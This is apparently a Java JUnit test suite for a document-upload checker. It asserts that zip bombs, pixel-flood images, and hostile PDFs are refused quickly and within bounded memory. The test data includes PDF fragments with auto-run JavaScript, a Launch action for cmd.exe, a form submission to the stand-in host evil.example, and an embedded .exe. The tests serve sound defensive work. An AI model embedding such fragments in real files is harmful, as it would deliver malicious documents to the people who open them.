package org.haven.documents;

import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The checks against files made to hurt whoever opens them: each is refused quickly, with
 * a message that says what to do, reading no more than a bounded amount into memory (the
 * bytes this thread allocates, as the ThreadMXBean counts them), and refusing PDFs that
 * would run, launch, send or carry something however deep it hides.
 */
class DocumentChecksTests {

	/** Far less than any bomb here would take if it were inflated into memory. */
	private static final long MEMORY = 64L * 1024 * 1024;

	private static final Duration QUICKLY = Duration.ofSeconds(10);

	private final DocumentChecks checks = new DocumentChecks();

	private Path file;

	@BeforeEach
	void file() throws IOException {
		this.file = Files.createTempFile("checks", ".bin");
	}

	@AfterEach
	void delete() throws IOException {
		Files.deleteIfExists(this.file);
	}

	@Test
	void aZipBombInTheContentTypesPartIsRefused() throws IOException {
		assertRefusedQuickly(HostileFiles.docxBomb("[Content_Types].xml"), "report.docx", "expands");
	}

	@Test
	void aZipBombInTheDocumentItselfIsRefused() throws IOException {
		assertRefusedQuickly(HostileFiles.docxBomb("word/document.xml"), "report.docx", "expands");
	}

	@Test
	void archivesNestedInsideAWordDocumentAreRefused() throws IOException {
		assertRefusedQuickly(HostileFiles.docxWithNestedArchives(20), "report.docx", "another archive");
	}

	@Test
	void aWordDocumentOfAHundredThousandPartsIsRefused() throws IOException {
		assertRefusedQuickly(HostileFiles.docxWithParts(100_000), "report.docx", "too many parts");
	}

	@Test
	void aWordDocumentWithAnEmbeddedSpreadsheetIsAccepted() throws IOException {
		assertThat(check(HostileFiles.docxWithEmbeddedSpreadsheet(), "report.docx").contentType())
			.isEqualTo("application/vnd.openxmlformats-officedocument.wordprocessingml.document");
	}

	@Test
	void plainTextThatStartsAsAZipNameDoesIsStillText() throws IOException {
		assertThat(check(DocumentFixtures.text("PK was absent today and said her mum was poorly."), "note.txt")
			.contentType()).isEqualTo("text/plain");
	}

	@Test
	void aPdfWhoseObjectStreamInflatesToAGibibyteIsRefused() throws IOException {
		assertThat(check(HostileFiles.pdfWithObjectStream(1000, false), "small.pdf").contentType())
			.isEqualTo("application/pdf");
		assertRefusedQuickly(HostileFiles.pdfWithObjectStream(HostileFiles.GIBIBYTE, false), "huge.pdf",
				"too large to check");
	}

	@Test
	void aPdfWhoseCrossReferenceStreamInflatesToAGibibyteIsRefused() throws IOException {
		assertRefusedQuickly(HostileFiles.pdfWithObjectStream(0, true), "huge.pdf", "too large to check");
	}

	@Test
	void imagesDeclaringBillionsOfPixelsAreRefusedWithoutBeingDecoded() throws IOException {
		assertRefusedQuickly(HostileFiles.pixelFloodPng(), "flood.png", "too many pixels");
		assertRefusedQuickly(HostileFiles.pixelFloodJpeg(), "flood.jpg", "too many pixels");
		assertRefusedQuickly(HostileFiles.pixelFloodTiff(), "flood.tiff", "too many pixels");
		assertThat(check(DocumentFixtures.image("tiff"), "fine.tiff").contentType()).isEqualTo("image/tiff");
		assertThat(check(DocumentFixtures.image("png"), "fine.png").contentType()).isEqualTo("image/png");
	}

	@Test
	void javaScriptIsFoundWhereverItIsWritten() throws IOException {
		String js = "<</S/JavaScript/JS(app.alert\\(1\\))>>";
		assertJavaScript(HostileFiles.pdf("/OpenAction" + js, ""));
		assertJavaScript(HostileFiles.pdf("", "/AA<</O" + js + ">>"));
		assertJavaScript(HostileFiles.pdf("/Names<</JavaScript<</Names[(a)" + js + "]>>>>", ""));
		assertJavaScript(HostileFiles.pdf("", "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A" + js + ">>]"));
		assertJavaScript(
				HostileFiles.pdf("/AcroForm<</Fields[4 0 R]>>", "", "<</FT/Tx/T(name)/AA<</K" + js + ">>/Kids[]>>"));
		// The same, each as objects of their own.
		assertJavaScript(HostileFiles.pdf("/OpenAction 4 0 R", "", "<</S/JavaScript/JS 5 0 R>>",
				"<</Length 14>>stream\napp.alert(1);\nendstream"));
		assertJavaScript(HostileFiles.pdf("", "/AA 4 0 R", "<</O 5 0 R>>", js));
		assertJavaScript(HostileFiles.pdf("/Names 4 0 R", "", "<</JavaScript 5 0 R>>", "<</Names[(a) 6 0 R]>>", js));
		assertJavaScript(HostileFiles.pdf("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>", "", js));
	}

	@Test
	void actionsThatLaunchSendOrFetchAreRefused() throws IOException {
		for (String action : new String[] { "<</S/Launch/F(cmd.exe)>>",
				"<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>", "<</S/ImportData/F(data.fdf)>>",
				"<</S/GoToR/F(other.pdf)/D[0/Fit]>>", "<</S/GoToE/T<</R/C/N(x)>>/D[0/Fit]>>" }) {
			assertRefused(HostileFiles.pdf("/OpenAction" + action, ""), "open other files");
			assertRefused(HostileFiles.pdf("", "/AA<</C 4 0 R>>", action), "open other files");
		}
		assertRefused(HostileFiles.pdf("", "/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]"),
				"open other files");
	}

	@Test
	void filesHiddenInsideAPdfAreRefused() throws IOException {
		String embedded = "<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream";
		assertRefused(HostileFiles.pdf("/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>", "",
				"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", embedded), "files attached");
		assertRefused(HostileFiles.pdf("", "/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 4 0 R>>]",
				"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", embedded), "files attached");
	}

	@Test
	void aPdfThatRefersToItselfIsCheckedAndAccepted() throws IOException {
		assertThat(check(HostileFiles.pdf("/Loop 4 0 R", "/Again 1 0 R", "<</Next 4 0 R/Up 1 0 R/List[4 0 R 3 0 R]>>"),
				"loop.pdf")
			.contentType()).isEqualTo("application/pdf");
		assertThat(check(HostileFiles.pdf("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>", ""), "plain.pdf").contentType())
			.isEqualTo("application/pdf");
	}

	@Test
	void aPdfTooIntricateToCheckIsRefused() throws IOException {
		StringBuilder many = new StringBuilder("/Many[");
		for (int i = 0; i < 300_000; i++) {
			many.append("[]");
		}
		assertRefusedQuickly(HostileFiles.pdf(many.append("]").toString(), ""), "many.pdf", "too complex to check");
	}

	@Test
	void aPdfNestedTooDeeplyToParseIsRefusedAsDamaged() throws IOException {
		// PDFBox limits nesting itself; this keeps it so.
		String deep = "/Deep " + "[".repeat(200_000) + "]".repeat(200_000);
		assertRefusedQuickly(HostileFiles.pdf(deep, ""), "deep.pdf", "could not be read");
	}

	private void assertJavaScript(byte[] pdf) throws IOException {
		assertRefused(pdf, "contains JavaScript");
	}

	private void assertRefused(byte[] pdf, String message) throws IOException {
		DocumentChecks.Result result = check(pdf, "letter.pdf");
		assertThat(result.problem()).as(new String(pdf, StandardCharsets.ISO_8859_1)).contains(message);
	}

	private void assertRefusedQuickly(byte[] content, String name, String message) throws IOException {
		Files.write(this.file, content);
		long started = System.nanoTime();
		long before = allocated();
		DocumentChecks.Result result = this.checks.check(this.file, name);
		long allocated = allocated() - before;
		Duration took = Duration.ofNanos(System.nanoTime() - started);
		assertThat(result.problem()).as(name).contains(message);
		assertThat(allocated).as("bytes allocated checking " + name).isLessThan(MEMORY);
		assertThat(took).as("time checking " + name).isLessThan(QUICKLY);
	}

	private DocumentChecks.Result check(byte[] content, String name) throws IOException {
		Files.write(this.file, content);
		return this.checks.check(this.file, name);
	}

	private static long allocated() {
		return ((com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean()).getCurrentThreadAllocatedBytes();
	}

}
